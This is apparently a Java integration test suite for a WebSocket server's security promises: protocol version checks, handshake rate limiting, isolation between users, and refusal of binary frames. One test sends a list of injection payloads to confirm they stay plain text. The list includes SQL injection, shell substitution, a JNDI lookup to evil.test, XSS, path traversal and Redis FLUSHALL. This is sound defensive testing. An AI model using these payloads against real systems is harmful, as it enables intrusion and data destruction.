package dev.bellhop.it;

import static dev.bellhop.it.MessageText.data;
import static dev.bellhop.it.MessageText.message;
import static dev.bellhop.it.MessageText.text;
import static dev.bellhop.it.MessageText.to;
import static dev.bellhop.it.MessageText.toGroup;
import static dev.bellhop.it.MessageText.toRole;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.net.Socket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;

/** What security.md promises of the WebSocket and no other test shows. */
class SecurityServerIT extends WithServers {

    /** The head of the answer to a handshake with these headers besides the usual ones. */
    private List<String> handshake(FormLogin login, String... headers) throws IOException {
        return handshake(login.cookieHeader(first.webSocket()).orElseThrow(), headers);
    }

    private List<String> handshake(String cookies, String... headers) throws IOException {
        return answer(first.webSocket().getPath(), cookies, Stream.concat(Stream.of("Connection: Upgrade"), Stream.of(headers)).toArray(String[]::new));
    }

    private List<String> answer(String path, String cookies, String... headers) throws IOException {
        URI uri = first.webSocket();
        try (Socket socket = new Socket(uri.getHost(), uri.getPort())) {
            socket.setSoTimeout(20_000);
            String all = Stream.of(headers).map(header -> header + "\r\n").collect(Collectors.joining());
            socket.getOutputStream().write(("GET " + path + " HTTP/1.1\r\nHost: " + uri.getAuthority() + "\r\nOrigin: " + first.origin() + "\r\nCookie: " + cookies + "\r\n" + all + "\r\n")
                    .getBytes(StandardCharsets.US_ASCII));
            BufferedReader in = new BufferedReader(new InputStreamReader(socket.getInputStream(), StandardCharsets.ISO_8859_1));
            return in.lines().takeWhile(line -> !line.isEmpty()).toList();
        }
    }

    private static int status(List<String> head) {
        return Integer.parseInt(head.get(0).split(" ")[1]);
    }

    @Test
    void onlyTheCurrentWebSocketProtocolIsSpoken() throws IOException {
        FormLogin login = FormLogin.as("guest110", first);
        String key = "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==";
        assertThat(status(handshake(login, "Upgrade: websocket", key, "Sec-WebSocket-Version: 13"))).isEqualTo(101);
        for (String old : new String[] {"0", "7", "8", "99"}) {
            assertThat(status(handshake(login, "Upgrade: websocket", key, "Sec-WebSocket-Version: " + old))).as("version " + old).isNotEqualTo(101);
        }
        assertThat(status(handshake(login, "Upgrade: WebSocket", "Sec-WebSocket-Key1: 4 @1  46546xW%0l 1 5", "Sec-WebSocket-Key2: 12998 5 Y3 1  .P00"))).as("hixie-76").isNotEqualTo(101);
    }

    @Test
    void framesAreNotCompressed() throws IOException {
        List<String> head = handshake(FormLogin.as("guest111", first), "Upgrade: websocket", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Version: 13",
                "Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits");
        assertThat(status(head)).isEqualTo(101);
        assertThat(head).noneMatch(line -> line.toLowerCase(java.util.Locale.ROOT).startsWith("sec-websocket-extensions"));
    }

    /** Each would be a new HTTP session, which the server keeps for minutes: a browser shows the one that it has, and a script need not. */
    @Test
    void whoHandshakesWithoutEndIsRefusedAndNobodyElse() throws IOException {
        FormLogin login = FormLogin.as("guest116", first);
        String cookies = Stream.of(login.cookieHeader(URI.create(first.origin() + "/elsewhere")).orElseThrow().split("; "))
                .filter(cookie -> !cookie.startsWith("JSESSIONID=")).collect(Collectors.joining("; ")); // the sign-on alone
        String[] headers = {"Upgrade: websocket", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Version: 13"};
        long begin = System.nanoTime();
        int taken = 0;
        List<String> refused = List.of();
        for (int i = 0; i < 2_000 && refused.isEmpty(); i++) {
            List<String> head = i % 2 == 0 ? handshake(cookies, headers) : answer("/bellhop/events", cookies);
            if (status(head) == (i % 2 == 0 ? 101 : 200)) {
                taken++;
            } else {
                assertThat(status(head)).isEqualTo(429);
                refused = head;
            }
        }
        long seconds = (System.nanoTime() - begin) / 1_000_000_000;
        assertThat(taken).isBetween(500, 501 + 10 * (int) (seconds + 1));
        assertThat(refused).anyMatch(line -> line.equalsIgnoreCase("Retry-After: 1"));
        assertThat(FormLogin.none(first).get("/bellhop/metrics").body()).contains("bellhop_handshakes_refused_total{reason=\"rate\"} ");
        Page.loggedIn(FormLogin.as("guest117", first)).close();
        await().pollInterval(Duration.ofMillis(500)).until(() -> status(handshake(cookies, headers)) == 101);
    }

    /** No frame of a page's reaches another user, whatever it names: the application decides what becomes of it. */
    @Test
    void whatAPageSendsReachesNoOtherUser() {
        try (Page alice = Page.loggedIn(FormLogin.as("guest112", first)); Page bob = Page.loggedIn(FormLogin.as("guest113", first))) {
            for (String to : List.of("\"guest113\"", "\"*\"")) {
                alice.send("{\"msg_type\":\"notice\",\"to_user_id\":" + to + ",\"data\":\"from guest112\"}");
            }
            alice.send(message("bellhop.node", toRole("bellhop-admin"), toGroup("g"), data("{}")));
            alice.send(message("ping"));
            alice.awaitType("pong");
            redis.publish(message("end", to("guest113")));
            bob.awaitType("end");
            assertThat(bob.frames()).hasSize(2);
        }
    }

    @Test
    void binaryFramesAreRefusedAndGoNowhere() {
        try (Page page = Page.loggedIn(FormLogin.as("guest114", first))) {
            long before = redis.commands().xlen(RedisServer.CONSUMER_STREAM);
            page.sendBinary("{\"msg_type\":\"hidden\",\"data\":1}".getBytes(StandardCharsets.UTF_8));
            assertThat(page.awaitType("error").getJsonObject("data").getString("code")).isEqualTo("bad_message");
            page.send(message("shown"));
            await().until(() -> redis.commands().xlen(RedisServer.CONSUMER_STREAM) > before);
            assertThat(redis.commands().xrevrange(RedisServer.CONSUMER_STREAM, io.lettuce.core.Range.unbounded(), io.lettuce.core.Limit.from(2)))
                    .noneMatch(entry -> "hidden".equals(entry.getBody().get("msg_type")));
        }
    }

    /** Each of these means something to a database, a shell, a template, a log or a browser. Here it is text. */
    @Test
    void whatWouldBeCodeElsewhereIsTextOnTheWholeWay() {
        List<String> payloads = List.of("'; DROP TABLE users; --", "$(reboot)", "`id`", "${jndi:ldap://evil.test/a}", "{{7*7}}", "<img src=x onerror=alert(1)>", "../../etc/passwd",
                "redis.call('FLUSHALL')", "*1\\r\\n$8\\r\\nFLUSHALL\\r\\n", "\\u0000\\u001b[2J", "%s%n%x", "__proto__");
        try (Page page = Page.loggedIn(FormLogin.as("guest115", first))) {
            int sent = 0;
            for (String payload : payloads) {
                redis.add(message("text", to("guest115"), text(payload)));
                page.send(message(payload, text(payload)));
                assertThat(page.awaitFrames("text", ++sent).get(sent - 1)).endsWith(",\"msg_type\":\"text\",\"data\":\"" + payload + "\"}");
            }
            await().until(() -> redis.commands().xrevrange(RedisServer.CONSUMER_STREAM, io.lettuce.core.Range.unbounded(), io.lettuce.core.Limit.from(50)).stream()
                    .filter(entry -> "guest115".equals(entry.getBody().get("from_user_id"))).map(entry -> entry.getBody().get("data"))
                    .filter(data -> payloads.contains(data.substring(1, data.length() - 1))).distinct().count() == payloads.size());
        }
    }
}
